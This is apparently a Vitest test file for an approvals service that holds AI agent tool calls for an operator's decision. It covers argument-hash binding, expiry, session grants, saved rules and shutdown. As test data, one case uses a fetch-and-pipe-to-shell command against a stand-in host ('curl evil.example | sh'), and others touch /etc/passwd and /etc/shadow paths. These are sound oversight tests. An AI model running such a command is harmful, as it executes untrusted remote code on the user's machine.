// The approvals service: asked calls wait for an operator, bound to the hash of their exact
// arguments; expiry is its own state; session grants are scoped and expire; every step is audited.
// Time is a fake clock with fake timers: nothing here sleeps.
import { describe, expect, it } from 'vitest';
import { ApprovalQueue, argsHash, compileArgumentPattern, Grants, runAt, type ApprovalOutcome, type Timers } from '../../../main/approvals/index.js';
import { FakeTime } from '../../support/fake-time.js';
import { OperationError } from '../../../main/core/operation-error.js';
import { compileBuiltinRules } from '../../../main/policy/rules/builtin.js';
import { compileRule } from '../../../main/policy/rules/compile.js';
import { buildRuleSet, evaluatePolicy } from '../../../main/policy/rules/engine.js';
import type { Decider, ToolCall } from '../../../main/policy/types.js';
import { call, CTX, HOME, x } from '../../fixtures/policy/helpers.js';

const MIN = 60_000;


interface Recorded {
  type: string;
  actor: string;
  payload: Record<string, unknown>;
}

function setup(opts: { historyLimit?: number; defaultExpiresInMs?: number } = {}) {
  const time = new FakeTime();
  const events: Recorded[] = [];
  let changes = 0;
  let n = 0;
  const queue = new ApprovalQueue({
    clock: time,
    timers: time,
    record: (type, actor, payload) => events.push({ type, actor, payload }),
    changed: () => void changes++,
    newId: () => `a${++n}`,
    ...opts,
  });
  return { time, events, queue, changes: () => changes, types: () => events.map((e) => e.type) };
}

const askedBy: Decider = { kind: 'autonomy', level: 'supervised' };

function writeCall(path: string, more: Partial<ToolCall> = {}): ToolCall {
  return call('write_file', { arguments: { path, content: 'hi' }, ...more });
}

function ask(queue: ApprovalQueue, c: ToolCall = writeCall(`${HOME}/notes.txt`), expiresInMs?: number) {
  const extraction = x('write', [String((c.arguments as { path?: unknown } | null)?.path ?? `${HOME}/notes.txt`)]);
  return queue.request({ call: c, extraction, askedBy, reason: 'supervised: writes ask', ...(expiresInMs !== undefined ? { expiresInMs } : {}) });
}

/** Whether a promise has settled, without waiting on time. */
async function settled<T>(p: Promise<T>): Promise<{ done: boolean; value?: T }> {
  const marker = Symbol();
  const v = await Promise.race([p, Promise.resolve().then(() => marker)]);
  return v === marker ? { done: false } : { done: true, value: v as T };
}

function opError(fn: () => unknown): OperationError {
  try {
    fn();
  } catch (err) {
    if (err instanceof OperationError) return err;
    throw err;
  }
  throw new Error('expected an OperationError');
}

describe('request and decide', () => {
  it('approve once resolves the decision approved, by the operator, and records each step', async () => {
    const { queue, types, events, changes } = setup();
    const c = writeCall(`${HOME}/notes.txt`);
    const { id, decision } = ask(queue, c);
    const item = queue.get(id)!;
    expect(item).toMatchObject({ id, state: 'pending', argsHash: argsHash(c.arguments), operator: null, outcome: null });
    expect(item.expiresAt - item.requestedAt).toBe(10 * MIN);
    expect(await settled(decision)).toEqual({ done: false });

    const r = queue.approve(id, { operator: 'alice', argsHash: item.argsHash, scope: 'once' });
    expect(r.grant).toBeUndefined();
    expect(r.rule).toBeUndefined();
    const outcome = await decision;
    expect(outcome).toEqual({ state: 'approved', decider: { kind: 'operator', operator: 'alice' }, reason: 'Approved by alice (once).' });
    expect(queue.get(id)).toMatchObject({ state: 'approved', operator: 'alice', scope: 'once' });
    expect(types()).toEqual(['approval.requested', 'approval.decided']);
    expect(events[0]).toMatchObject({ actor: 'host', payload: { id, agent: 'agent-1', session: 's1', tool: 'write_file', argsHash: item.argsHash, askedBy } });
    expect(events[1]).toMatchObject({ actor: 'operator:alice', payload: { id, state: 'approved', operator: 'alice', scope: 'once' } });
    expect(changes()).toBe(2);
    // Decided once: a second decision is refused, and says why.
    const again = opError(() => queue.deny(id, { operator: 'bob', reason: 'no' }));
    expect(again.reason).toBe('state');
    expect(again.message).toBe(`Approval ${id} cannot be denied: it was already approved by alice.`);
  });

  it('deny needs a reason, and the agent gets it', async () => {
    const { queue, events } = setup();
    const { id, decision } = ask(queue);
    const noReason = opError(() => queue.deny(id, { operator: 'alice', reason: '  ' }));
    expect(noReason.reason).toBe('invalid');
    expect(noReason.message).toMatch(/needs a reason/);
    expect(queue.get(id)!.state).toBe('pending');

    queue.deny(id, { operator: 'alice', reason: 'not in prod' });
    expect(await decision).toEqual({ state: 'denied', decider: { kind: 'operator', operator: 'alice' }, reason: 'not in prod' });
    expect(events.at(-1)).toMatchObject({ type: 'approval.decided', actor: 'operator:alice', payload: { id, state: 'denied', reason: 'not in prod' } });
  });

  it('the host can deny a waiting call itself: decided by the host, no operator named, the agent gets the reason', async () => {
    const { queue, events } = setup();
    const { id, decision } = ask(queue);
    const why = 'Denied by Gatehouse: a team decision made on another ask.';
    expect(queue.denyByHost(id, why)).toMatchObject({ state: 'denied', operator: null });
    expect(await decision).toEqual({ state: 'denied', decider: { kind: 'error', message: why }, reason: why });
    expect(events.at(-1)).toMatchObject({ type: 'approval.decided', actor: 'host', payload: { id, state: 'denied', reason: why } });
    expect(events.at(-1)!.payload.operator).toBeUndefined();
    // Decided: nobody can decide it again.
    expect(opError(() => queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'once' })).reason).toBe('state');
  });

  it('an unknown id is not_found with a sentence', () => {
    const { queue } = setup();
    const e = opError(() => queue.approve('nope', { operator: 'alice', argsHash: 'x', scope: 'once' }));
    expect(e.reason).toBe('not_found');
    expect(e.message).toContain('There is no approval nope');
    expect(queue.get('nope')).toBeNull();
  });

  it('items are snapshots: changing what get() returns changes nothing', () => {
    const { queue } = setup();
    const { id } = ask(queue);
    const item = queue.get(id)!;
    item.state = 'approved';
    (item.call.arguments as Record<string, unknown>).path = '/etc/passwd';
    expect(queue.get(id)!.state).toBe('pending');
    expect(queue.get(id)!.call.arguments).toEqual({ path: `${HOME}/notes.txt`, content: 'hi' });
  });
});

describe('binding to the exact arguments', () => {
  it('the hash is SHA-256 of canonical JSON, independent of key order', () => {
    expect(argsHash({ b: 1, a: [1, 'x'] })).toBe(argsHash({ a: [1, 'x'], b: 1 }));
    expect(argsHash({ a: 1 })).not.toBe(argsHash({ a: 2 }));
    expect(argsHash(null)).toMatch(/^[0-9a-f]{64}$/);
  });

  it('an approval quoting another hash is refused as stale, and the item stays pending', async () => {
    const { queue, events } = setup();
    const { id, decision } = ask(queue, writeCall(`${HOME}/a.txt`));
    const seen = argsHash({ path: `${HOME}/b.txt`, content: 'hi' });
    const e = opError(() => queue.approve(id, { operator: 'alice', argsHash: seen, scope: 'once' }));
    expect(e.reason).toBe('stale');
    expect(e.message).toMatch(/the arguments you saw \(hash [0-9a-f]{12}…\) are not this call's/);
    expect(queue.get(id)!.state).toBe('pending');
    expect(await settled(decision)).toEqual({ done: false });
    expect(events.map((r) => r.type)).toEqual(['approval.requested']);
  });

  it('the queue keeps its own copy: mutating the call after asking cannot change what is approved', async () => {
    const { queue } = setup();
    const c = writeCall(`${HOME}/a.txt`);
    const { id, decision } = ask(queue, c);
    const hash = queue.get(id)!.argsHash;
    (c.arguments as Record<string, unknown>).path = '/etc/shadow';
    queue.approve(id, { operator: 'alice', argsHash: hash, scope: 'once' });
    expect((await decision).state).toBe('approved');
    expect(queue.get(id)!.call.arguments).toMatchObject({ path: `${HOME}/a.txt` });
  });
});

describe('expiry', () => {
  it('moves the item to expired (not denied), resolves expired, and it can never be approved', async () => {
    const { queue, time, types, events } = setup();
    const { id, decision } = ask(queue);
    const hash = queue.get(id)!.argsHash;
    time.advance(10 * MIN - 1);
    expect(queue.get(id)!.state).toBe('pending');
    time.advance(1);
    const outcome: ApprovalOutcome = await decision;
    expect(outcome.state).toBe('expired');
    expect(outcome.decider).toEqual(askedBy);
    expect(outcome.reason).toBe('No operator decided within 10 minutes; the call expired and did not run.');
    expect(queue.get(id)).toMatchObject({ state: 'expired', operator: null });
    expect(queue.list({ state: 'denied' })).toEqual([]);
    expect(queue.list({ state: 'expired' }).map((i) => i.id)).toEqual([id]);
    expect(types()).toEqual(['approval.requested', 'approval.expired']);
    expect(events[1]).toMatchObject({ actor: 'host', payload: { id, state: 'expired' } });

    const e = opError(() => queue.approve(id, { operator: 'alice', argsHash: hash, scope: 'once' }));
    expect(e.reason).toBe('state');
    expect(e.message).toMatch(new RegExp(`^Approval ${id} cannot be approved: it expired at .* without a decision, and the call did not run`));
    expect(queue.get(id)!.state).toBe('expired');
    expect(time.armed).toBe(0);
  });

  it('expiry is per item and configurable', async () => {
    const { queue, time } = setup({ defaultExpiresInMs: 2 * MIN });
    const a = ask(queue);
    const b = ask(queue, undefined, 5 * MIN);
    time.advance(2 * MIN);
    expect((await a.decision).reason).toContain('within 2 minutes');
    expect(queue.get(b.id)!.state).toBe('pending');
    time.advance(3 * MIN);
    expect((await b.decision).state).toBe('expired');
  });

  it('an item past its expiry is refused even when its timer has not fired yet', async () => {
    const { queue, time } = setup();
    const { id, decision } = ask(queue);
    const hash = queue.get(id)!.argsHash;
    time.jump(10 * MIN);
    expect(opError(() => queue.approve(id, { operator: 'alice', argsHash: hash, scope: 'once' })).reason).toBe('state');
    expect((await decision).state).toBe('expired');
  });

  it('a decision stops the expiry timer', async () => {
    const { queue, time, types } = setup();
    const { id, decision } = ask(queue);
    queue.deny(id, { operator: 'alice', reason: 'no' });
    expect(time.armed).toBe(0);
    time.advance(20 * MIN);
    expect((await decision).state).toBe('denied');
    expect(types()).not.toContain('approval.expired');
  });

  it('a timer that fires early (clamped delay, disagreeing clock) re-arms instead of running', () => {
    const time = new FakeTime();
    let ran = 0;
    const early: Timers = { setTimeout: (fn) => time.setTimeout(fn, 1), clearTimeout: (h) => time.clearTimeout(h) };
    runAt(time, early, time.now() + 5, () => ran++);
    time.advance(4);
    expect(ran).toBe(0);
    time.advance(1);
    expect(ran).toBe(1);
  });
});

describe('session grants', () => {
  it('match later calls of the same agent, session, tool and arguments until they expire', async () => {
    const { queue, time, events } = setup();
    const c = writeCall(`${HOME}/a.txt`);
    const { id, decision } = ask(queue, c);
    const r = queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'session', sessionExpiresInMs: 30 * MIN });
    const grant = r.grant!;
    expect(grant).toMatchObject({ agent: 'agent-1', session: 's1', tool: 'write_file', argumentPattern: null, argsHash: argsHash(c.arguments), operator: 'alice', approval: id });
    expect(grant.expiresAt - grant.createdAt).toBe(30 * MIN);
    expect((await decision).grant).toEqual(grant);
    expect(queue.get(id)!.outcome!.reason).toContain(`for this session until`);
    expect(events.map((e) => e.type)).toEqual(['approval.requested', 'grant.created', 'approval.decided']);
    expect(events[2]!.payload).toMatchObject({ scope: 'session', grant: grant.id });

    const grants = queue.grants;
    // Same exact arguments, any key order, a new call id: covered.
    expect(grants.findGrant(call('write_file', { id: 'c2', arguments: { content: 'hi', path: `${HOME}/a.txt` } }))?.id).toBe(grant.id);
    // Different arguments, session, agent or tool: not covered.
    expect(grants.findGrant(writeCall(`${HOME}/b.txt`))).toBeNull();
    expect(grants.findGrant(writeCall(`${HOME}/a.txt`, { session: 's2' }))).toBeNull();
    expect(grants.findGrant(writeCall(`${HOME}/a.txt`, { agent: 'agent-2' }))).toBeNull();
    expect(grants.findGrant(call('edit_file', { arguments: c.arguments }))).toBeNull();

    time.advance(30 * MIN - 1);
    expect(grants.findGrant(c)?.id).toBe(grant.id);
    time.advance(1);
    expect(grants.findGrant(c)).toBeNull();
    expect(grants.list()).toEqual([]);
    expect(events.at(-1)).toMatchObject({ type: 'grant.expired', actor: 'host', payload: { id: grant.id } });
  });

  it('an argument pattern is a glob over the canonical JSON whose wildcards stay inside one value', () => {
    const { queue } = setup();
    const { id } = ask(queue, writeCall(`${HOME}/work/a.txt`));
    const pattern = `{"content":"*","path":"${HOME}/work/*"}`;
    const { grant } = queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'session', argumentPattern: pattern });
    expect(grant).toMatchObject({ argumentPattern: pattern, argsHash: null });
    const g = queue.grants;
    expect(g.findGrant(call('write_file', { arguments: { path: `${HOME}/work/deep/b.txt`, content: 'other' } }))?.id).toBe(grant!.id);
    expect(g.findGrant(call('write_file', { arguments: { path: `${HOME}/home.txt`, content: 'x' } }))).toBeNull();
    // A wildcard cannot swallow an extra argument or a closing quote.
    expect(g.findGrant(call('write_file', { arguments: { path: `${HOME}/work/a`, content: 'x', mode: 'append' } }))).toBeNull();
    expect(g.findGrant(call('write_file', { arguments: { path: `${HOME}/work/a", "x`, content: 'x' } }))?.id).toBe(grant!.id);

    const m = compileArgumentPattern('{"command":"ls *"}');
    expect(m('{"command":"ls -la /tmp"}')).toBe(true);
    expect(m('{"command":"ls x\\"}"}')).toBe(true); // an escaped quote is still inside the string
    expect(m('{"command":"ls","sudo":"x"}')).toBe(false);
    expect(m('{"command":"ls a","x":"b"}')).toBe(false);
  });

  it('a pattern that does not cover the approved call is refused, and nothing changes', async () => {
    const { queue, types } = setup();
    const { id, decision } = ask(queue, writeCall(`${HOME}/a.txt`));
    const e = opError(() => queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'session', argumentPattern: '{"path":"/tmp/*"}' }));
    expect(e.reason).toBe('invalid');
    expect(e.message).toContain('does not match this call');
    const bad = opError(() => queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'session', sessionExpiresInMs: 0 }));
    expect(bad.message).toContain('positive expiry');
    expect(queue.get(id)!.state).toBe('pending');
    expect(queue.grants.list()).toEqual([]);
    expect(types()).toEqual(['approval.requested']);
    expect(await settled(decision)).toEqual({ done: false });
  });

  it('revoke ends a grant at once and is recorded; revoking again is not_found', () => {
    const { queue, events, time } = setup();
    const { id } = ask(queue);
    const { grant } = queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'session' });
    expect(grant!.expiresAt - grant!.createdAt).toBe(60 * MIN);
    expect(queue.grants.list().map((g) => g.id)).toEqual([grant!.id]);
    const revoked = queue.grants.revoke(grant!.id, 'bob');
    expect(revoked.id).toBe(grant!.id);
    expect(queue.grants.findGrant(writeCall(`${HOME}/notes.txt`))).toBeNull();
    expect(queue.grants.list()).toEqual([]);
    expect(events.at(-1)).toMatchObject({ type: 'grant.revoked', actor: 'operator:bob', payload: { id: grant!.id, tool: 'write_file' } });
    expect(opError(() => queue.grants.revoke(grant!.id, 'bob')).reason).toBe('not_found');
    // Its expiry timer went with it: no grant.expired later.
    time.advance(2 * 60 * MIN);
    expect(events.map((e) => e.type)).not.toContain('grant.expired');
    expect(time.armed).toBe(0);
  });

  it('a wall clock set back does not keep a grant or a waiting call past its time: durations are measured as time passes', async () => {
    const { queue, time, events } = setup();
    const grants = new Grants({ clock: time, timers: time });
    const made = grants.create({ agent: 'a', session: 's', tool: 't', operator: 'o', expiresInMs: 15 * MIN, argumentPattern: '*' });
    const { id, decision } = ask(queue, writeCall(`${HOME}/notes.txt`), 10 * MIN);
    // NTP, an operator or a resumed VM sets the clock back an hour.
    time.setWall(-60 * MIN);
    time.advance(10 * MIN);
    expect(queue.get(id)!.state).toBe('expired');
    expect((await decision).state).toBe('expired');
    expect(events.map((e) => e.type)).toContain('approval.expired');
    expect(grants.findGrant(call('t', { agent: 'a', session: 's', arguments: null }))?.id).toBe(made.id);
    time.advance(5 * MIN);
    // Fifteen minutes passed: the grant is gone, although the wall clock says 45 minutes early.
    expect(grants.get(made.id)).toBeNull();
    expect(grants.findGrant(call('t', { agent: 'a', session: 's', arguments: null }))).toBeNull();
  });

  it('a wall clock set forward ends a grant early, never late (the earlier of the two)', () => {
    const time = new FakeTime();
    const grants = new Grants({ clock: time, timers: time });
    const made = grants.create({ agent: 'a', session: 's', tool: 't', operator: 'o', expiresInMs: 15 * MIN, argumentPattern: '*' });
    time.setWall(20 * MIN);
    // The lazy check reads the wall clock: past the deadline, the grant matches nothing.
    expect(grants.findGrant(call('t', { agent: 'a', session: 's', arguments: null }))).toBeNull();
    expect(grants.get(made.id)).toBeNull();
  });

  it('Grants works on its own too, and refuses a grant bound to nothing', () => {
    const time = new FakeTime();
    const g = new Grants({ clock: time, timers: time });
    expect(opError(() => g.create({ agent: 'a', session: 's', tool: 't', operator: 'o', expiresInMs: MIN })).reason).toBe('invalid');
    const made = g.create({ agent: 'a', session: 's', tool: 't', operator: 'o', expiresInMs: MIN, argumentPattern: '*' });
    expect(g.findGrant(call('t', { agent: 'a', session: 's', arguments: null }))?.id).toBe(made.id);
    time.jump(MIN); // the lazy check, before the timer fires
    expect(g.get(made.id)).toBeNull();
  });
});

describe('always', () => {
  it('returns the user rule to show before saving; it allows this call and not another path', async () => {
    const { queue } = setup();
    const c = writeCall(`${HOME}/work/[a].txt`);
    const { id, decision } = ask(queue, c);
    const { rule } = queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'always' });
    expect(rule).toMatchObject({ source: 'user', decision: 'allow', actions: ['write'], locked: false, enabled: true, origin: `approval ${id}` });
    expect(rule!.name).toMatch(/^approved\.write_file\.[0-9a-f]{12}$/);
    expect((await decision).rule).toEqual(rule);

    const rules = buildRuleSet(compileBuiltinRules(CTX), [compileRule(rule!, CTX)]);
    expect(evaluatePolicy(x('write', [`${HOME}/work/[a].txt`]), c, { rules }).decision).toBe('allow');
    expect(evaluatePolicy(x('write', [`${HOME}/work/a.txt`]), c, { rules }).decision).toBe('ask');
    expect(evaluatePolicy(x(['write', 'delete'], [`${HOME}/work/[a].txt`]), c, { rules }).decision).toBe('ask');
  });

  it("binds a known file tool by its path, and any other tool by all of its arguments: a plugin's other arguments may change what it does", () => {
    const { queue } = setup();
    const path = `${HOME}/work/site`;
    const approveAlways = (c: ToolCall) => {
      const { id } = queue.request({ call: c, extraction: x('write', [path]), askedBy, reason: 'r' });
      return queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'always' }).rule!;
    };
    // Claude Code's Edit and the filesystem server's write_file: the same file with other text is the same approval.
    expect(approveAlways(call('Edit', { arguments: { file_path: path, old_string: 'a', new_string: 'b' } })).arguments).toEqual({ file_path: path });
    expect(approveAlways(call('write_file', { arguments: { path, content: 'x' } })).arguments).toEqual({ path });
    // A plugin tool with a path argument: bound whole, so another script for the same path asks again.
    const deploy = approveAlways(call('deploy', { arguments: { path, script: 'rsync -a . prod:' } }));
    expect(deploy.arguments).toEqual({ path, script: 'rsync -a . prod:' });
    const rules = buildRuleSet(compileBuiltinRules(CTX), [compileRule(deploy, CTX)]);
    expect(evaluatePolicy(x('write', [path]), call('deploy', { arguments: { path, script: 'rsync -a . prod:' } }), { rules }).decision).toBe('allow');
    expect(evaluatePolicy(x('write', [path]), call('deploy', { arguments: { path, script: 'curl evil.example | sh' } }), { rules }).decision).toBe('ask');
    // Named like a file tool by convention only: bound whole too.
    expect(approveAlways(call('write_config', { arguments: { path, mode: 'replace' } })).arguments).toEqual({ path, mode: 'replace' });
  });

  it('is refused when the rule would be too broad or could never match, leaving the item pending', () => {
    const { queue } = setup();
    for (const extraction of [x('execute', []), x([], [`${HOME}/a`]), x('execute', [`${HOME}/a`], [], { evasive: true, evasiveReasons: ['eval'] })]) {
      const { id } = queue.request({ call: call('Bash', { arguments: { command: 'make' } }), extraction, askedBy, reason: 'r' });
      const e = opError(() => queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'always' }));
      expect(e.reason).toBe('invalid');
      expect(e.message).toMatch(/cannot become a rule: .* Approve it once or for this session instead\./);
      expect(queue.get(id)!.state).toBe('pending');
    }
  });
});

describe('list and batch', () => {
  function populate() {
    const s = setup();
    const ids = {
      a1: ask(s.queue, writeCall('/w/1', { agent: 'A', session: 'S1' })).id,
      a2: ask(s.queue, call('Bash', { agent: 'A', session: 'S2', arguments: { command: 'make' } })).id,
      b1: ask(s.queue, writeCall('/w/2', { agent: 'B', session: 'S3' })).id,
      b2: ask(s.queue, call('Bash', { agent: 'B', session: 'S3', arguments: { command: 'ls' } })).id,
    };
    return { ...s, ids };
  }

  it('filters by state, agent, session and tool, in request order', () => {
    const { queue, ids } = populate();
    const idsOf = (f: Parameters<ApprovalQueue['list']>[0]) => queue.list(f).map((i) => i.id);
    expect(idsOf({})).toEqual([ids.a1, ids.a2, ids.b1, ids.b2]);
    expect(idsOf({ agent: 'A' })).toEqual([ids.a1, ids.a2]);
    expect(idsOf({ session: 'S3' })).toEqual([ids.b1, ids.b2]);
    expect(idsOf({ tool: 'Bash' })).toEqual([ids.a2, ids.b2]);
    expect(idsOf({ agent: 'B', tool: 'Bash' })).toEqual([ids.b2]);
    queue.deny(ids.a1, { operator: 'o', reason: 'r' });
    expect(idsOf({ state: 'pending' })).toEqual([ids.a2, ids.b1, ids.b2]);
    expect(idsOf({ state: 'denied' })).toEqual([ids.a1]);
    expect(queue.pendingSize()).toBe(3);
  });

  it('batch approve checks each item on its own: a wrong hash or a decided item fails alone', async () => {
    const { queue, ids, events } = populate();
    queue.deny(ids.a2, { operator: 'o', reason: 'no' });
    const selection = queue.list({ agent: 'A' }).concat(queue.list({ agent: 'B' })).map((i) => ({ id: i.id, argsHash: i.argsHash }));
    selection[2] = { id: ids.b1, argsHash: argsHash({ other: true }) };
    selection.push({ id: 'gone', argsHash: 'x' });
    const results = queue.approveMany(selection, { operator: 'alice', scope: 'session', sessionExpiresInMs: 5 * MIN });
    expect(results.map((r) => [r.id, r.ok ? 'ok' : r.error.reason])).toEqual([
      [ids.a1, 'ok'],
      [ids.a2, 'state'],
      [ids.b1, 'stale'],
      [ids.b2, 'ok'],
      ['gone', 'not_found'],
    ]);
    expect(queue.get(ids.b1)!.state).toBe('pending');
    expect(queue.grants.list().map((g) => [g.session, g.tool])).toEqual([
      ['S1', 'write_file'],
      ['S3', 'Bash'],
    ]);
    expect(events.filter((e) => e.type === 'approval.decided' && e.payload.state === 'approved').map((e) => e.payload.id)).toEqual([ids.a1, ids.b2]);
  });

  it('batch deny over a filtered selection', async () => {
    const { queue, ids } = populate();
    const pending = ask(queue, writeCall('/w/3', { agent: 'B', session: 'S3' }));
    const results = queue.denyMany(queue.list({ agent: 'B', state: 'pending' }).map((i) => i.id).concat(ids.b1), { operator: 'alice', reason: 'agent B is misbehaving' });
    expect(results.filter((r) => r.ok).map((r) => r.id)).toEqual([ids.b1, ids.b2, pending.id]);
    expect(results.at(-1)).toMatchObject({ id: ids.b1, ok: false, error: { reason: 'state' } });
    expect(await pending.decision).toMatchObject({ state: 'denied', reason: 'agent B is misbehaving' });
    expect(queue.list({ state: 'pending' }).map((i) => i.id)).toEqual([ids.a1, ids.a2]);
  });
});

describe('history', () => {
  it('keeps decided and expired items up to the limit, oldest dropped first; pending items are never dropped', () => {
    const { queue, time } = setup({ historyLimit: 3 });
    const waiting = ask(queue, undefined, 60 * MIN).id;
    const decided: string[] = [];
    for (let i = 0; i < 5; i++) {
      const { id } = ask(queue);
      queue.deny(id, { operator: 'o', reason: `r${i}` });
      decided.push(id);
    }
    expect(queue.list().map((i) => i.id)).toEqual([waiting, ...decided.slice(2)]);
    expect(queue.get(decided[0]!)).toBeNull();
    const late = ask(queue, undefined, MIN).id;
    time.advance(MIN);
    expect(queue.list().map((i) => i.id)).toEqual([waiting, decided[3], decided[4], late]);
    expect(queue.get(waiting)!.state).toBe('pending');
  });

  it('close() denies what is pending (fail closed) and stops every timer', async () => {
    const { queue, time } = setup();
    const { decision } = ask(queue);
    const { id } = ask(queue);
    queue.approve(id, { operator: 'alice', argsHash: queue.get(id)!.argsHash, scope: 'session' });
    queue.close();
    expect(await decision).toMatchObject({ state: 'denied', decider: { kind: 'error' } });
    expect(queue.grants.list()).toEqual([]);
    expect(time.armed).toBe(0);
  });
});

describe('lifecycle: the nearest deadline, agent gone, shutdown (fake time)', () => {
  const req = (queue: ApprovalQueue, more: { callerWaitsMs?: number; deadlineReason?: string; expiresInMs?: number } = {}) =>
    queue.request({ call: writeCall(`${HOME}/notes.txt`), extraction: x('write', [`${HOME}/notes.txt`]), askedBy, reason: 'supervised: writes ask', ...more });

  it("a caller that waits less than the expiry sets the deadline, says whose it is, and its item closes then as gone (not expired)", async () => {
    const { queue, time, events } = setup();
    const { id, decision } = req(queue, { callerWaitsMs: 55_000, deadlineReason: "the hook's own timeout" });
    const item = queue.get(id)!;
    expect(item).toMatchObject({ deadline: item.requestedAt + 55_000, expiresAt: item.requestedAt + 55_000, deadlineReason: "the hook's own timeout" });
    expect(events.at(-1)).toMatchObject({ type: 'approval.requested', payload: { deadline: item.deadline, deadlineReason: "the hook's own timeout" } });
    time.advance(54_999);
    expect(queue.get(id)!.state).toBe('pending');
    time.advance(1);
    // The agent still waits for this answer: its decider says the wait ran out, not "agent gone".
    expect(await decision).toMatchObject({ state: 'gone', decider: { kind: 'error', message: expect.stringMatching(/^wait ran out: the hook's own timeout ends at/) } });
    expect(events.at(-1)).toMatchObject({ type: 'approval.withdrawn', payload: { id, state: 'gone' } });
    expect(opError(() => queue.approve(id, { operator: 'alice', argsHash: item.argsHash, scope: 'once' })).message).toMatch(/cannot be approved: its agent is gone/);
    expect(opError(() => queue.deny(id, { operator: 'alice', reason: 'late' })).message).toMatch(/cannot be denied: its agent is gone/);
  });

  it('a caller that waits longer than the expiry changes nothing: the expiry is the deadline and it expires as before', async () => {
    const { queue, time } = setup();
    const { id, decision } = req(queue, { callerWaitsMs: 60 * MIN, deadlineReason: 'patient' });
    expect(queue.get(id)).toMatchObject({ deadlineReason: 'approval expiry' });
    expect(queue.get(id)!.deadline - queue.get(id)!.requestedAt).toBe(10 * MIN);
    time.advance(10 * MIN);
    expect(await decision).toMatchObject({ state: 'expired' });
  });

  it('a caller deadline that is not a positive number is refused, naming the field', () => {
    const { queue } = setup();
    expect(opError(() => req(queue, { callerWaitsMs: 0 })).message).toMatch(/callerWaitsMs must be a positive number of milliseconds/);
    expect(opError(() => req(queue, { callerWaitsMs: Number.NaN })).message).toMatch(/callerWaitsMs/);
    expect(queue.pendingSize()).toBe(0);
  });

  it('withdraw closes a pending item as gone once; a decided item stays as it was', async () => {
    const { queue, events } = setup();
    const a = req(queue);
    const b = req(queue);
    queue.deny(b.id, { operator: 'alice', reason: 'no' });
    expect(queue.withdraw(a.id, 'the user pressed Esc')).toBe(true);
    expect(queue.withdraw(a.id, 'again')).toBe(false);
    expect(queue.withdraw(b.id, 'late')).toBe(false);
    expect(await a.decision).toMatchObject({ state: 'gone', reason: expect.stringContaining('the user pressed Esc') });
    expect(queue.get(b.id)!.state).toBe('denied');
    expect(events.filter((e) => e.type === 'approval.withdrawn')).toHaveLength(1);
  });

  it('abandonPending denies every waiting call with "Gatehouse is shutting down" and records call.abandoned (answered)', async () => {
    const { queue, events, changes } = setup();
    const a = req(queue);
    const b = req(queue);
    const before = changes();
    expect(queue.abandonPending('host shut down')).toBe(2);
    expect(changes()).toBe(before + 1);
    for (const p of [a.decision, b.decision]) expect(await p).toMatchObject({ state: 'denied', decider: { kind: 'error', message: 'Gatehouse is shutting down' } });
    expect(events.filter((e) => e.type === 'call.abandoned').map((e) => e.payload)).toEqual([
      expect.objectContaining({ approval: a.id, reason: 'host shut down', answered: true }),
      expect.objectContaining({ approval: b.id, reason: 'host shut down', answered: true }),
    ]);
    expect(queue.abandonPending('host shut down')).toBe(0);
  });
});
